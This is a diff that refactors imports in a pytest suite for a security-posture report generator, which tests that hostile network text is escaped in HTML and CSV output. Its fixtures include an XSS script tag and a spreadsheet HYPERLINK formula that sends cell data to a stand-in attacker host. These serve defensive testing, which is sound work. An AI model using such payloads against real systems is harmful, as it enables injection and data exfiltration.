@@ -20,7 +20,7 @@ from typing import Any
 
 import pytest
 
-import secposture.report.outputs.files as report
+import secposture.report as report_package
 from inventory.store import ACTIVE, MISSING, STALE
 from secposture.assess.selfassessment import AnswerValue
 from secposture.config.sections import AgencyConfig, Level, Profile, parse_config
@@ -40,15 +40,14 @@ from secposture.model.records import (
     Target,
 )
 from secposture.model.score import Score
-from secposture.report.outputs.files import (
-    findings_csv,
-    findings_document,
-    format_time,
-    inventory_document,
-    render_html,
-    write_outputs,
-)
-from secposture.report.view.page import DEVICE_FACTS, DEVICE_TYPES
+from secposture.report.outputs import ReportPaths, write_outputs
+from secposture.report.outputs.base import REPORT_MODE
+from secposture.report.outputs.csv import CSV_COLUMNS, findings_csv
+from secposture.report.outputs.html import inventory_script, render_html
+from secposture.report.outputs.json import findings_document, inventory_document
+from secposture.report.view.devices import DEVICE_FACTS
+from secposture.report.view.inventory import DEVICE_TYPES
+from secposture.report.view.text import MAX_NAME, MAX_SHOWN, format_time
 from secposture.scoring.score import ItemStatus, score_findings
 
 XSS = "<script>alert('xss')</script> Router admin"
@@ -61,7 +60,7 @@ BROKEN = "bad\udcff\ud800utf8"  # invalid UTF-8 read with surrogateescape, and a
 HOSTILE_TITLE = f"{XSS} {IMG} {SSTI} {PWNED}"
 HOSTNAME = f"{XSS}{IMG}"
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
-SCRIPT_TEXT, SCRIPT_HASH = report.inventory_script()
+SCRIPT_TEXT, SCRIPT_HASH = inventory_script()
 # Written out here, not taken from the code: this is the policy the page must carry.
 CSP = (
     "default-src 'none'; style-src 'unsafe-inline'; img-src data:; "
@@ -297,7 +296,7 @@ class Page(HTMLParser):
 
 
 @pytest.fixture()
-def written(tmp_path: Path) -> report.ReportPaths:
+def written(tmp_path: Path) -> ReportPaths:
     sweep, findings = hostile_sweep(), hostile_findings()
     return write_outputs(
         sweep, findings, score_findings(findings), agency_config(tmp_path), tmp_path / "out"
@@ -313,7 +312,7 @@ def load(path: Path) -> dict[str, Any]:
 
 
 def test_write_outputs_writes_the_documents_with_exactly_the_agreed_keys(
-    written: report.ReportPaths,
+    written: ReportPaths,
 ) -> None:
     # Given a sweep with hosts, findings and a failed attempt, written to a report dir
     inventory = load(written.inventory_json)
@@ -410,7 +409,7 @@ def test_findings_document_lists_every_finding_the_score_and_only_failed_attempt
 
 
 def test_json_documents_replace_invalid_utf8_instead_of_failing(
-    written: report.ReportPaths,
+    written: ReportPaths,
 ) -> None:
     hostnames = [h["hostname"] for h in load(written.inventory_json)["hosts"]]
 
@@ -422,7 +421,7 @@ def test_json_documents_replace_invalid_utf8_instead_of_failing(
 
 
 def test_hostile_network_text_is_shown_as_text_and_never_becomes_markup(
-    written: report.ReportPaths,
+    written: ReportPaths,
 ) -> None:
     html = written.html.read_text("utf-8")
     page = Page(html)
@@ -441,7 +440,7 @@ def test_hostile_network_text_is_shown_as_text_and_never_becomes_markup(
     assert re.search(r"<[^>]*onerror=", html) is None
 
 
-def test_bidi_overrides_and_broken_utf8_are_made_visible(written: report.ReportPaths) -> None:
+def test_bidi_overrides_and_broken_utf8_are_made_visible(written: ReportPaths) -> None:
     html = written.html.read_text("utf-8")
 
     # U+202E would reverse the rest of the line on screen; it is named instead
@@ -450,21 +449,21 @@ def test_bidi_overrides_and_broken_utf8_are_made_visible(written: report.ReportP
     assert "bad\ufffd\ufffdutf8" in html
 
 
-def test_very_long_network_strings_are_cut_and_can_wrap(written: report.ReportPaths) -> None:
+def test_very_long_network_strings_are_cut_and_can_wrap(written: ReportPaths) -> None:
     html = written.html.read_text("utf-8")
     page = Page(html)
 
     # Evidence is cut at MAX_SHOWN characters, a hostname at MAX_NAME; each says what is left
-    evidence = "A" * (report.MAX_SHOWN - len("anonymous login allowed, listing: "))
+    evidence = "A" * (MAX_SHOWN - len("anonymous login allowed, listing: "))
     assert f"{evidence}… (còn 3034 ký tự, xem đầy đủ trong tệp JSON)" in page.section("issues")
-    hostname = "A" * report.MAX_NAME
+    hostname = "A" * MAX_NAME
     assert f"{hostname}… (còn 4744 ký tự" in page.section("inventory")
-    assert "A" * (report.MAX_SHOWN + 1) not in html
+    assert "A" * (MAX_SHOWN + 1) not in html
     # and what is shown wraps instead of widening the page
     assert "overflow-wrap: anywhere" in html
 
 
-def test_page_is_self_contained_and_forbids_scripts(written: report.ReportPaths) -> None:
+def test_page_is_self_contained_and_forbids_scripts(written: ReportPaths) -> None:
     html = written.html.read_text("utf-8")
     page = Page(html)
 
@@ -726,7 +725,7 @@ def test_every_enum_shown_in_the_report_has_a_label_in_both_languages() -> None:
 def test_every_report_label_is_used() -> None:
     sources = " ".join(template_sources().values())
     used = set(T_KEY.findall(sources)) | set(ANY_KEY.findall(sources))
-    package = Path(report.__file__).parents[1]
+    package = Path(report_package.__file__).parent
     modules = [*sorted(package.rglob("*.py")), package.parent / "cli" / "report.py"]
     assert len(modules) > 5, "the report package's modules were not found"
     for module in modules:
@@ -756,12 +755,12 @@ def read_csv(path: Path) -> list[dict[str, str]]:
 
 
 def test_csv_has_one_row_per_finding_in_the_chosen_language(
-    written: report.ReportPaths,
+    written: ReportPaths,
 ) -> None:
     rows = read_csv(written.findings_csv)
 
     assert written.findings_csv.read_bytes().startswith(b"\xef\xbb\xbf")  # BOM for Excel
-    assert list(rows[0]) == list(report.CSV_COLUMNS)
+    assert list(rows[0]) == list(CSV_COLUMNS)
     assert len(rows) == len(hostile_findings())
     telnet = next(r for r in rows if r["check_id"] == "net.telnet_exposed" and r["port"] == "23")
     assert telnet["title"] == "Dịch vụ Telnet (không mã hóa) đang mở"
@@ -822,7 +821,7 @@ def test_rewriting_replaces_files_and_leaves_no_temporary_files(tmp_path: Path) 
         "report.html",
     ]
     assert len(load(paths.findings_json)["findings"]) == 1
-    assert stat.S_IMODE(paths.html.stat().st_mode) == report.REPORT_MODE
+    assert stat.S_IMODE(paths.html.stat().st_mode) == REPORT_MODE
 
 
 def test_a_failed_write_keeps_the_previous_file_whole(
